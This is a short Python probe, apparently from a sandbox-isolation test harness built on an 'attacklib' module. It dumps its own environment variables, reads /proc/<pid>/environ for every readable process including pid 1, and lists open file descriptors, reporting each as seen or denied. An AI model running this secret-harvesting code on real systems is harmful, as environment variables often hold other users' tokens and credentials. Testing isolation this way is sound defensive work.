"""Dumps every environment it can see: its own, pid 1's, and all readable /proc/*/environ."""
import os
import attacklib


def attack(tick):
    attacklib.result("env", "SEEN " + " ".join("%s=%s" % kv for kv in sorted(os.environ.items())))
    for pid in [p for p in os.listdir("/proc") if p.isdigit()] + ["1"]:
        try:
            with open("/proc/%s/environ" % pid, "rb") as f:
                attacklib.result("environ " + pid, "SEEN " + f.read(4000).decode("latin-1").replace("\0", " "))
        except OSError as error:
            attacklib.result("environ " + pid, "DENIED %s" % error.strerror)
    fds = sorted(os.listdir("/proc/self/fd"))
    attacklib.result("fds", "OPEN " + ",".join(fds))


attacklib.run(attack)
